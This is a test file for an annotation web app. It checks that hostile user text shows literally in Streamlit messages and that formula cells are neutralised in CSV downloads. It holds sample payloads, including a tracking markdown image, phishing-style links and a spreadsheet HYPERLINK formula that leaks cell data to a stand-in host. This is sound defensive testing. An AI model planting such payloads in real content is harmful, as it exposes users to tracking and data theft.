"""User text in messages never renders as markdown; table cells never start a formula in the CSV
download (issue 14, items 7 and 8).

The rendering is Streamlit's own markdown in a real Chromium: what matters is what the browser
draws (a link or an image fetched), which no Python markdown library would tell.
"""

from __future__ import annotations

import os
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest
from sqlalchemy.engine import Engine
from sqlmodel import Session
from streamlit.testing.v1 import AppTest

from annotator.domain.article import SourceSpec
from annotator.store import documents
from annotator.store.models import Role
from annotator.ui.common import IDENTITY
from tests.browser_helpers import chromium, free_port, new_page
from tests.helpers import add_small_article, add_user
from tests.ui_helpers import app_engine

ROOT = Path(__file__).resolve().parents[1]

HOSTILE = [
    "![t](http://127.0.0.1:9/track.png) [confirm](https://example.com/confirm)",
    "bare https://example.com/x and www.example.com and a@example.com",
    "ticks `code` and ``more`` ` and a \\ backslash",
    ":red[alert] :material/home: $x^2$ **bold** <b>html</b> # heading",
]

PAGE = """
import streamlit as st
from annotator.ui.text import md_literal

hostile = {hostile!r}
for number, text in enumerate(hostile):
    with st.container(key=f"literal{{number}}"):
        st.error("Refused " + md_literal(text) + ".")
with st.container(key="raw"):
    st.error(hostile[0] + " " + hostile[1])  # control: the same text as plain markdown
"""


@pytest.fixture
def page_url(tmp_path: Path) -> str:
    script = tmp_path / "page.py"
    script.write_text(PAGE.format(hostile=HOSTILE), encoding="utf-8")
    port = free_port()
    process = subprocess.Popen(
        [sys.executable, "-m", "annotator.ui.server", "run", str(script), "--server.headless", "true"]
        + [
            "--server.port",
            str(port),
            "--server.address",
            "127.0.0.1",
            "--browser.gatherUsageStats",
            "false",
        ],
        cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                with urllib.request.urlopen(f"{base}/_stcore/health", timeout=2):
                    break
            except OSError:
                if process.poll() is not None or time.monotonic() > deadline:
                    raise
                time.sleep(0.2)
        yield base
    finally:
        process.terminate()
        process.wait(timeout=10)


def test_user_text_in_messages_shows_literally_in_the_browser(page_url: str) -> None:
    with chromium() as browser:
        page = new_page(browser).page
        page.goto(page_url)
        raw = page.locator(".st-key-raw")
        raw.locator("[data-testid='stAlert']").wait_for(timeout=30_000)
        # Control: as plain markdown the text draws an image, links and an autolink.
        assert raw.locator("img").count() >= 1 and raw.locator("a").count() >= 2
        for number, text in enumerate(HOSTILE):
            shown = page.locator(f".st-key-literal{number}")
            assert shown.locator("img").count() == 0, text
            assert shown.locator("a").count() == 0, text
            assert shown.locator("h1, strong, b, .katex, [data-testid='stIconMaterial']").count() == 0, text
            assert f"Refused {text}." == " ".join(shown.inner_text().split()), text


def test_page_messages_quote_user_text_as_code(file_db_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The Users page refuses a hostile name; its message, which quotes what was typed, is one
    code span (before: the name went into the message as markdown, image and link included)."""
    engine = app_engine(file_db_url, monkeypatch)
    admin = add_user(engine, "root", Role.admin)
    at = _page_as(admin, "users")
    at.text_input(key="new_user_name").input("[confirm](https://example.com) ![t](http://x/t.png)")
    at.button[0].click().run()
    [message] = at.error
    assert message.value.startswith("` ") and message.value.endswith(" `") and message.value.count("`") == 2
    assert "contains '['" in message.value


def test_table_cells_that_start_a_formula_are_prefixed(
    file_db_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Streamlit's CSV download writes cells as shown: a source label typed as a formula is
    shown (and downloaded) with a leading apostrophe, so a spreadsheet keeps it text."""
    engine = app_engine(file_db_url, monkeypatch)
    add_small_article(engine)
    formula = '=HYPERLINK("http://x.example/?leak="&A1,"open")'
    _add_source(engine, formula)
    at = _page_as(add_user(engine, "root", Role.admin), "articles")
    labels = [list(frame.value["label"]) for frame in at.dataframe if "label" in frame.value.columns]
    assert labels == [["Alpha", "Beta", "'" + formula]]


def _add_source(engine: Engine, label: str) -> None:
    with Session(engine) as session:
        documents.add_source(session=session, document_id="doc", spec=SourceSpec("sheet", label))


def _page_as(user_id: int, page: str) -> AppTest:
    at = AppTest.from_file(str(ROOT / "annotator" / "ui" / "app_pages" / f"{page}.py"), default_timeout=30)
    at.session_state["user_id"], at.session_state[IDENTITY] = user_id, (user_id, "root", Role.admin)
    at.run()
    assert not at.exception, at.exception
    return at
